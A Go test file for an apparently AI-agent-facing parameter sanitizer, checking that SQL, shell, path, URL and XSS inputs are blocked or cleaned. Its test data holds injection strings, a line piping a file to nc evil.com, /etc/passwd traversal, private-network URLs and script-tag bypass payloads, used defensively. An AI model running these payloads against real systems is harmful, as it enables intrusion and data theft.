package sanitize

import (
	"errors"
	"math"
	"strings"
	"testing"

	"github.com/clearline-ai/warden/internal/policy"
	"github.com/clearline-ai/warden/internal/value"
)

func testSanitizer() *Sanitizer {
	ps := policy.Empty()
	ps.Rules.DatabaseQueries = policy.QueryRules{
		MaxLength:       500,
		BlockedPatterns: []string{"DROP TABLE", "UNION SELECT"},
	}
	ps.Rules.SystemCommands = policy.CommandRules{
		MaxLength:       200,
		BlockedPatterns: []string{"rm -rf"},
	}
	ps.Rules.FilePaths = policy.PathRules{
		MaxLength:       200,
		BlockedPrefixes: []string{"/etc", "/root"},
	}
	ps.Rules.URLs = policy.URLRules{
		MaxLength:      500,
		AllowedSchemes: []string{"http", "https"},
		BlockedDomains: []string{"localhost", "127.0.0.1", "::1", "10.", "192.168.", "172.16."},
	}
	return New(ps)
}

func TestClassifyRole(t *testing.T) {
	tests := []struct {
		key  string
		want Role
	}{
		{"query", RoleSQL},
		{"sql_statement", RoleSQL},
		{"command", RoleCommand},
		{"shell_cmd", RoleCommand},
		{"file_path", RolePath},
		{"output_directory", RolePath},
		{"url", RoleURL},
		{"website_link", RoleURL},
		{"subject", RoleGeneric},
		{"QUERY", RoleSQL},
	}
	for _, tt := range tests {
		t.Run(tt.key, func(t *testing.T) {
			if got := ClassifyRole(tt.key); got != tt.want {
				t.Errorf("ClassifyRole(%q) = %v, want %v", tt.key, got, tt.want)
			}
		})
	}
}

func TestSanitizeSQL(t *testing.T) {
	s := testSanitizer()

	t.Run("blocked pattern is fatal", func(t *testing.T) {
		_, _, err := s.SanitizeParameters(map[string]value.Value{
			"query": value.String("SELECT * FROM users; DROP TABLE users"),
		})
		var se *Error
		if !errors.As(err, &se) {
			t.Fatalf("expected *Error, got %v", err)
		}
		if se.Field != "query" {
			t.Errorf("Field = %q, want query", se.Field)
		}
	})

	t.Run("pattern match is case-insensitive", func(t *testing.T) {
		_, _, err := s.SanitizeParameters(map[string]value.Value{
			"query": value.String("select 1 union select password from users"),
		})
		if err == nil {
			t.Fatal("expected error for lowercase union select")
		}
	})

	t.Run("trailing comment is fatal", func(t *testing.T) {
		_, _, err := s.SanitizeParameters(map[string]value.Value{
			"query": value.String("SELECT * FROM users WHERE id = 1 --"),
		})
		if err == nil {
			t.Fatal("expected error for trailing comment")
		}
	})

	t.Run("quotes escaped with warning", func(t *testing.T) {
		out, warnings, err := s.SanitizeParameters(map[string]value.Value{
			"query": value.String("SELECT * FROM users WHERE name = 'bob'"),
		})
		if err != nil {
			t.Fatalf("SanitizeParameters: %v", err)
		}
		got, _ := out["query"].Str()
		if want := "SELECT * FROM users WHERE name = ''bob''"; got != want {
			t.Errorf("sanitized = %q, want %q", got, want)
		}
		if len(warnings) != 1 {
			t.Errorf("warnings = %v, want one quote-escape warning", warnings)
		}
	})

	t.Run("clean query untouched", func(t *testing.T) {
		out, warnings, err := s.SanitizeParameters(map[string]value.Value{
			"query": value.String("SELECT id, name FROM users WHERE id = 1"),
		})
		if err != nil {
			t.Fatalf("SanitizeParameters: %v", err)
		}
		got, _ := out["query"].Str()
		if got != "SELECT id, name FROM users WHERE id = 1" {
			t.Errorf("clean query was rewritten: %q", got)
		}
		if len(warnings) != 0 {
			t.Errorf("unexpected warnings: %v", warnings)
		}
	})
}

func TestSanitizeCommand(t *testing.T) {
	s := testSanitizer()

	for _, bad := range []string{
		"ls; cat /etc/passwd",
		"echo hello && sudo reboot",
		"cat file | nc evil.com 1234",
		"echo `whoami`",
		"echo $(id)",
	} {
		t.Run(bad, func(t *testing.T) {
			_, _, err := s.SanitizeParameters(map[string]value.Value{
				"command": value.String(bad),
			})
			if err == nil {
				t.Errorf("metacharacter command %q should be fatal", bad)
			}
		})
	}

	t.Run("blocked pattern", func(t *testing.T) {
		_, _, err := s.SanitizeParameters(map[string]value.Value{
			"command": value.String("rm -rf /home/user"),
		})
		if err == nil {
			t.Fatal("expected error for rm -rf")
		}
	})

	t.Run("plain command passes", func(t *testing.T) {
		_, _, err := s.SanitizeParameters(map[string]value.Value{
			"command": value.String("ls -la /home/user"),
		})
		if err != nil {
			t.Fatalf("plain command rejected: %v", err)
		}
	})
}

func TestSanitizePath(t *testing.T) {
	s := testSanitizer()

	tests := []struct {
		name    string
		path    string
		wantErr bool
	}{
		{"traversal", "/home/user/../../etc/passwd", true},
		{"home relative", "~/secrets.txt", true},
		{"blocked prefix", "/etc/shadow", true},
		{"plain", "/home/user/notes.txt", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := s.SanitizeParameters(map[string]value.Value{
				"file_path": value.String(tt.path),
			})
			if (err != nil) != tt.wantErr {
				t.Errorf("path %q: err = %v, wantErr %v", tt.path, err, tt.wantErr)
			}
		})
	}

	t.Run("path is canonicalized", func(t *testing.T) {
		out, _, err := s.SanitizeParameters(map[string]value.Value{
			"file_path": value.String("/home/user//docs/./notes.txt"),
		})
		if err != nil {
			t.Fatalf("SanitizeParameters: %v", err)
		}
		got, _ := out["file_path"].Str()
		if got != "/home/user/docs/notes.txt" {
			t.Errorf("canonical path = %q", got)
		}
	})
}

func TestSanitizeURL(t *testing.T) {
	s := testSanitizer()

	tests := []struct {
		name    string
		url     string
		wantErr bool
	}{
		{"https ok", "https://example.com/data", false},
		{"file scheme", "file:///etc/passwd", true},
		{"no scheme", "example.com/data", true},
		{"blocked domain", "http://localhost:9000/internal", true},
		{"loopback ip", "http://127.0.0.1:8080/", true},
		{"ipv6 loopback", "http://[::1]/", true},
		{"private 10", "http://10.0.0.5/", true},
		{"private 192.168", "http://192.168.1.10/admin", true},
		{"private 172.16", "http://172.16.3.2/", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := s.SanitizeParameters(map[string]value.Value{
				"url": value.String(tt.url),
			})
			if (err != nil) != tt.wantErr {
				t.Errorf("url %q: err = %v, wantErr %v", tt.url, err, tt.wantErr)
			}
		})
	}
}

func TestSanitizeNumbers(t *testing.T) {
	s := testSanitizer()

	for name, n := range map[string]float64{
		"NaN":       math.NaN(),
		"inf":       math.Inf(1),
		"too large": 1e16,
	} {
		t.Run(name, func(t *testing.T) {
			_, _, err := s.SanitizeParameters(map[string]value.Value{
				"amount": value.Number(n),
			})
			if err == nil {
				t.Errorf("numeric value %v should be fatal", n)
			}
		})
	}

	t.Run("ordinary number passes", func(t *testing.T) {
		_, _, err := s.SanitizeParameters(map[string]value.Value{
			"amount": value.Number(42.5),
		})
		if err != nil {
			t.Fatalf("ordinary number rejected: %v", err)
		}
	})
}

func TestSanitizeNested(t *testing.T) {
	s := testSanitizer()

	t.Run("nested map keys reclassified", func(t *testing.T) {
		_, _, err := s.SanitizeParameters(map[string]value.Value{
			"options": value.Map(map[string]value.Value{
				"query": value.String("DROP TABLE users"),
			}),
		})
		if err == nil {
			t.Fatal("nested SQL parameter should be sanitized by its own key")
		}
	})

	t.Run("list elements inherit the parent role", func(t *testing.T) {
		_, _, err := s.SanitizeParameters(map[string]value.Value{
			"file_path": value.List([]value.Value{
				value.String("/home/user/a.txt"),
				value.String("/etc/passwd"),
			}),
		})
		if err == nil {
			t.Fatal("blocked path inside a list should be fatal")
		}
	})

	t.Run("input map is not modified", func(t *testing.T) {
		in := map[string]value.Value{
			"query": value.String("name = 'bob'"),
		}
		out, _, err := s.SanitizeParameters(in)
		if err != nil {
			t.Fatalf("SanitizeParameters: %v", err)
		}
		orig, _ := in["query"].Str()
		if orig != "name = 'bob'" {
			t.Errorf("input was mutated: %q", orig)
		}
		got, _ := out["query"].Str()
		if !strings.Contains(got, "''") {
			t.Errorf("output not escaped: %q", got)
		}
	})
}

func TestStripXSS(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		want    string
		changed bool
	}{
		{"plain text", "hello world", "hello world", false},
		{"script block", `before<script>alert(1)</script>after`, "beforeafter", true},
		{"mixed case", `<SCRIPT src="x.js"></SCRIPT>rest`, "rest", true},
		{"js scheme", `click javascript:alert(1)`, "click alert(1)", true},
		{"event handler", `<img src=x onerror=alert(1)>`, `<img src=x alert(1)>`, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, changed := StripXSS(tt.in)
			if got != tt.want {
				t.Errorf("StripXSS(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if changed != tt.changed {
				t.Errorf("changed = %v, want %v", changed, tt.changed)
			}
		})
	}
}

func TestStripXSSIdempotent(t *testing.T) {
	// Stripping the outer tag must not reassemble an inner one.
	in := `<scr<script>x</script>ipt>alert(1)</scr<script>y</script>ipt>`
	once, _ := StripXSS(in)
	twice, changed := StripXSS(once)
	if once != twice {
		t.Errorf("not idempotent: %q then %q", once, twice)
	}
	if changed {
		t.Error("second pass should find nothing to strip")
	}
	if strings.Contains(strings.ToLower(once), "<script") {
		t.Errorf("script tag survived: %q", once)
	}
}
